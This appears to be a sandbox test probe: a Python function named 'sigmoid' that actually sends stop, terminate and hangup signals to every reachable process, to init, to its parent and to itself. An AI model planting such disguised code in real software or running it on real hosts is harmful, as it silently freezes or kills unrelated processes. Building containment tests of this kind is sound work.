# Own · Signals to the whole namespace, to the fork server and to itself.
# limits: short
# reports: signal|ended|did not end|lost

# %% [sigmoid] trick
def sigmoid(h):
    import os, signal
    for pid in (-1, 1, 0, os.getppid(), os.getpid()):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return h
